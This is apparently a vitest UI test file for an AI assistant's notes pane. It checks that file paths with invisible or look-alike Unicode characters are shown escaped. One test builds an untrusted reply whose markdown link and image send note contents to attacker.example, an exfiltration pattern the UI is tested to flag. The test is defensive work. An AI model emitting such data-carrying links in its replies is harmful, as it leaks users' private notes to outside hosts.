// @vitest-environment happy-dom
/**
 * A path that holds a character a person cannot see, or one that looks like another (a no-break
 * space for a space), is shown with that character escaped wherever the pane names it: card
 * titles, links, step lines, results. `Garden shed\u200B.md` never reads like `Garden shed.md`.
 */
import { cleanup, render, screen, within } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { FileList } from "../../src/sandbox/page/FileList";
import { renderUntrustedReply } from "../../src/ui/untrusted/render-reply";
import { renderMarkdownInto } from "../../src/sandbox/page/markdown";
import { EventScript } from "./support/events";
import { renderThread } from "./support/render";

afterEach(cleanup);

const NBSP_PATH = "Projects/Garden\u00a0shed.md";
const NBSP_SHOWN = "Projects/Garden\\u00A0shed.md";
const ZWSP_PATH = "Projects/Garden shed\u200b.md";
const ZWSP_SHOWN = "Projects/Garden shed\\u200B.md";

function editScript(path: string): EventScript {
	const s = new EventScript().user("m1", "Paint the door").assistant("a1", "");
	s.add({
		type: "edit_intent_declared",
		editId: "e1",
		callId: "c_edit",
		path,
		operation: "modify",
		description: "Add the paint colour",
	});
	s.propose("a1", "c_edit", "declareEditIntent", { path, operation: "modify", description: "Add the paint colour" });
	return s;
}

describe("paths with look-alike characters in the pane", () => {
	it("show a no-break space escaped on the edit card: its title, its link and its label", async () => {
		await renderThread(editScript(NBSP_PATH));
		const card = screen.getByRole("group", { name: `Edit ${NBSP_SHOWN}` });
		expect(card.querySelector(".redline-card-title")?.textContent).toBe("Add the paint colour · Garden\\u00A0shed");
		const link = within(card).getByRole("link", { name: `Open ${NBSP_SHOWN}` });
		expect(link.textContent).toBe("Garden\\u00A0shed");
		expect(link.getAttribute("title")).toBe(`Open ${NBSP_SHOWN}`);
		expect(card.textContent).not.toContain("\u00a0");
		expect(within(card).getByRole("button", { name: /^Run:/ }).getAttribute("aria-label")).toContain(NBSP_SHOWN);
	});

	it("show a zero-width space escaped on the card of the intent that announced it, so it differs from the real note", async () => {
		await renderThread(editScript("Projects/Garden shed\u200b.md"));
		const card = screen.getByRole("group", { name: "Edit Projects/Garden shed\\u200B.md" });
		expect(card.textContent).toContain("Garden shed\\u200B");
		expect(card.textContent).not.toContain("\u200b");
	});

	it("show a no-break space escaped on a read card, in its step line and in a result that names the path", async () => {
		const s = new EventScript().user("m1", "Read the shed note").assistant("a1", "");
		s.propose("a1", "c1", "readNote", { path: NBSP_PATH })
			.decide("c1", "approved")
			.run("c1", { status: "error", message: `No note at ${NBSP_PATH}.`, path: NBSP_PATH });
		s.propose("a1", "c2", "readNote", { path: "Projects/Garden\u202fshed.md" });
		await renderThread(s);
		expect(screen.getAllByText(`Reading Garden\\u00A0shed.md`).length).toBeGreaterThan(0);
		expect(screen.getAllByText(`No note at ${NBSP_SHOWN}.`).length).toBeGreaterThan(0);
		const waiting = screen.getByRole("group", { name: "Read Projects/Garden\\u202Fshed.md" });
		expect(within(waiting).getByRole("link", { name: "Open Projects/Garden\\u202Fshed.md" })).toBeTruthy();
		expect(document.body.textContent).not.toMatch(/[\u00a0\u202f]/);
	});

	it("show a plain path exactly as it is", async () => {
		await renderThread(editScript("Projects/Garden shed.md"));
		const card = screen.getByRole("group", { name: "Edit Projects/Garden shed.md" });
		const link = within(card).getByRole("link", { name: "Open Projects/Garden shed.md" });
		expect(link.textContent).toBe("Garden shed");
		expect(link.getAttribute("title")).toBe("Open Projects/Garden shed.md");
	});

	it("show a no-break space escaped in the sandbox page's file list, folder and note alike", () => {
		const notes = [
			{ path: NBSP_PATH, size: 1, mtime: 0 },
			{ path: "Pro\u00a0jects/Plan.md", size: 1, mtime: 0 },
		];
		render(<FileList notes={notes} selected={null} changed={new Set()} onSelect={() => undefined} />);
		const list = screen.getByRole("navigation", { name: "Notes" });
		expect(within(list).getByRole("button", { name: "Garden\\u00A0shed" })).toBeTruthy();
		expect(list.textContent).toContain("Pro\\u00A0jects");
		expect(list.textContent).not.toContain("\u00a0");
	});

	it("show a no-break space and a zero-width space escaped on a user message's pinned notes", async () => {
		const s = new EventScript();
		s.add({
			type: "user_message",
			messageId: "m1",
			content: "Paint the door",
			pinned: [{ path: NBSP_PATH }, { path: ZWSP_PATH }],
		});
		await renderThread(s);
		const pins = screen.getByRole("list", { name: "Pinned notes" });
		expect(
			within(pins)
				.getAllByRole("listitem")
				.map((li) => li.textContent),
		).toEqual([NBSP_SHOWN, ZWSP_SHOWN]);
		expect(pins.textContent).not.toMatch(/[\u00a0\u200b]/);
	});

	it("show a no-break space and a zero-width space escaped where a reply's link or image names the notes it carries text from", async () => {
		const pane = document.body.appendChild(document.createElement("div"));
		const host = {
			renderMarkdown: (el: HTMLElement, markdown: string) => renderMarkdownInto(el, markdown, () => undefined),
		};
		const reads = [
			{ path: NBSP_PATH, text: "The shed code is tulip-Harbor-9917" },
			{ path: ZWSP_PATH, text: "Also tulip-Harbor-9917 here" },
		];
		renderUntrustedReply(
			host,
			pane,
			"See [the shed](https://attacker.example/?d=tulip-Harbor-9917).\n\n![](https://attacker.example/p.png?d=tulip-Harbor-9917)",
			{ reads, open: () => undefined },
		);
		const link = await within(pane).findByRole("link", { name: "the shed" });
		link.click();
		const ask = within(pane).getByRole("group", { name: "Open this link?" });
		expect(ask.textContent).toContain(`This link contains text from ${NBSP_SHOWN} and ${ZWSP_SHOWN}.`);
		const image = within(pane).getByRole("group", { name: "Image from attacker.example" });
		expect(image.textContent).toContain(`contains text from ${NBSP_SHOWN} and ${ZWSP_SHOWN}`);
		expect(pane.textContent).not.toMatch(/[\u00a0\u200b]/);
	});
});
